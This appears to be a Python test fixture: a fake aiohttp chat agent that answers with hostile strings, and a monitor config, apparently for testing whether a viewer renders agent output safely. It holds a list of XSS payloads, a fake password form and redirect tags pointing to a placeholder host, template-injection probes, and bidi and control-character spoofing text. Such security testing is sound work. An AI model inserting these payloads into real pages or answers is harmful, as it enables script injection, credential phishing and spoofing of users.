"""Answers made to do harm to whoever looks at them."""

from collections.abc import Mapping

from aiohttp import web


# A monitor's name is shown in titles, attributes and paths.
NAME = "\"><img src=x onerror=alert('name')>"
ELSEWHERE = "http://elsewhere.invalid"
ANSWERS: Mapping[str, str] = {
    "script": f"<script>alert(1)</script><script src={ELSEWHERE}/x.js></script>",
    "closing": "</div></main></body></html><script>alert(2)</script>",
    "comment": "--><script>alert(3)</script><!--",
    "handler": '<img src=x onerror="alert(4)"><body onload=alert(4)>',
    "focus": '" autofocus onfocus="alert(5)" x="',
    "svg": f"<svg onload=alert(6)><image href={ELSEWHERE}/i.png></svg>",
    "mathml": "<math><mtext><style><img src onerror=alert(7)></style></math>",
    "frame": f'<iframe src="javascript:alert(8)"></iframe><object data={ELSEWHERE}>',
    "link": '<a href="javascript:alert(9)">the order</a> javascript:alert(9)',
    "data": "<a href='data:text/html,<script>alert(10)</script>'>invoice</a>",
    "form": f'<form action="{ELSEWHERE}"><input name=password><button>Log in</form>',
    "meta": f'<meta http-equiv="refresh" content="0;url={ELSEWHERE}">',
    "base": f'<base href="{ELSEWHERE}/"><link rel=stylesheet href=/x.css>',
    "style": f"<style>*{{background:url({ELSEWHERE}/c)}}</style>",
    "template": "{{ 7 * 7 }} {% raw %} ${7 * 7} #{7 * 7} <%= 7 * 7 %>",
    "markdown": f"[your refund]({ELSEWHERE}) ![photo]({ELSEWHERE}/p.png) **bold**",
    "autolink": f"See {ELSEWHERE}/refund or mail refund@elsewhere.invalid",
    "entities": "&lt;script&gt;alert(11)&lt;/script&gt; &#60;b&#62; &amp;amp;",
    "bidi": "Pay to \u202e0001-A\u202c and \u2066not\u2069 to \u200fus",
    "zero-width": "re\u200bfu\u200cnd\ufeff\u2060 app\u00adroved\U000e0041",
    "control": "\x1b[31mred\x1b[0m\x07\x00 beep \x85 next\u2028line",
    "long": "W" * 6000 + " " + "wide\u00a0" * 400,
    "combining": "Z" + "\u0351\u0321" * 300 + "algo",
    "tall": "\n" * 500 + "end",
}


def say() -> web.Application:
    """Return an agent that answers the name of an answer with that answer."""

    async def chat(request: web.Request) -> web.Response:
        message = (await request.json())["message"]
        return web.json_response({"answer": ANSWERS[message]})

    app = web.Application()
    app.router.add_post("/chat", chat)
    return app


def hostile_monitor(endpoint: str) -> dict[str, object]:
    """Return a monitor of that agent; no answer passes."""
    cases = [
        {"id": name, "ask": name, "samples": 1, "expect": [{"contains": "never said"}]}
        for name in ANSWERS
    ]
    return {"name": NAME, "type": "agent", "endpoint": endpoint, "cases": cases}
